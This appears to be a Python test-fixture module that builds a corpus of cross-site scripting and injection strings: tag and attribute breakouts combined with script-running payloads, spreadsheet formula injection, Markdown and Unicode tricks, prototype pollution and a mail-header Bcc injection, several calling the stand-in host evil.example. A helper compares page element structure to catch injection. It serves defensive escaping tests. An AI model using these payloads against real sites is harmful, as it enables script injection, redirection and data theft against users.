"""Texts that would run, load or break something in a page that took them for more than text.

Put together from our own parts: a way out of where a text stands, then something that runs.
"""

import itertools
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

# What a script sets where it runs after all; the tests look for it.
CANARY = "zyx()"

BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "--></style>",
    "]]>",
    "\u2028",
    "{{",
    "&#34;&gt;",
    "\\u0022>",
)
RUNS = (
    "<script>zyx()</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<script/x>zyx()</script\t>",
    "<img src=x onerror=zyx()>",
    "<img/src=x\nonerror\n=\nzyx()//",
    "<svg/onload=zyx()>",
    "<svg><animate onbegin=zyx() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=zyx()>#x'>",
    "<body onpageshow=zyx()>",
    "<details open ontoggle=zyx()>",
    "<iframe srcdoc='&lt;script&gt;zyx()'>",
    "<a href=javascript:zyx()>x</a>",
    "<a href='java\tscript:zyx()'>x</a>",
    "<a href='&#106;avascript&colon;zyx()'>x</a>",
    "<a href=vbscript:zyx()>x</a>",
    "<form action=//evil.example><input name=x>",
    "<button formaction=javascript:zyx()>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example'</style>",
    "<p style=background:url(//evil.example)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=zyx()>",
    "<template shadowrootmode=open><script>zyx()</script></template>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    " onfocus=zyx() autofocus tabindex=1 ",
    "javascript:zyx()",
    "{% include 'admin/base.html' %}{{ request.user }}",
    "${zyx()}#{zyx()}<%= zyx() %>",
    "<!--#exec cmd='zyx'--><?php zyx() ?>",
)
# What is no HTML but is read by something: spreadsheets, Markdown, JSON, mail headers, the eye.
OTHERS = (
    "=HYPERLINK(zyx())",
    "+zyx()|x",
    "-2+zyx()",
    "@zyx(1)",
    "\t=zyx()",
    "![x](//evil.example/zyx())",
    "[x](javascript:zyx())",
    "<javascript:zyx()>",
    "# <b>zyx()",
    '"},"x":{"__proto__":{"y":"zyx()',
    '\\"};zyx();//',
    "\u202ezyx()\u202c",
    "z\u200by\u200bx()",
    "\uff1cscript\uff1ezyx()\uff1c/script\uff1e",
    "\u017fcript zyx()",
    "\ufeff<script>zyx()</script>",
    "%3Cscript%3Ezyx()%3C/script%3E",
    "&lt;script&gt;zyx()&lt;/script&gt;",
    "&amp;lt;img onerror=zyx()&amp;gt;",
    "Bcc: zyx@evil.example",
)
CORPUS = [before + run for before, run in itertools.product(BREAKS, RUNS)] + list(OTHERS)


def in_pieces(texts: list[str], limit: int) -> list[str]:
    """The texts joined so that each piece fits a field."""
    pieces = [""]
    for text in texts:
        if len(pieces[-1]) + len(text) > limit:
            pieces.append("")
        pieces[-1] += text
    return pieces


def pieces(limit: int) -> list[str]:
    """The whole corpus in pieces, as a field of that size keeps them: without gaps at the ends."""
    return [piece.strip() for piece in in_pieces([text for text in CORPUS if len(text) <= limit], limit)]


def hostile_words(start: int) -> Callable[[int], str]:
    """The next piece of the corpus at each call, from another place for each field size."""
    ready: dict[int, Iterator[str]] = {}

    def words(limit: int) -> str:
        if limit not in ready:
            found = pieces(limit) or ["<b>"]
            ready[limit] = itertools.cycle(found[start % len(found) :] + found[: start % len(found)])
        return next(ready[limit])

    return words


class _Bones(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(" ".join([tag, *sorted(name for name, _value in attrs)]))

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.found.append("instruction")


def bones(page: str) -> list[str]:
    """Every element of a page with the names of its attributes: text that is only text changes none."""
    parser = _Bones()
    parser.feed(page)
    parser.close()
    return sorted(parser.found)
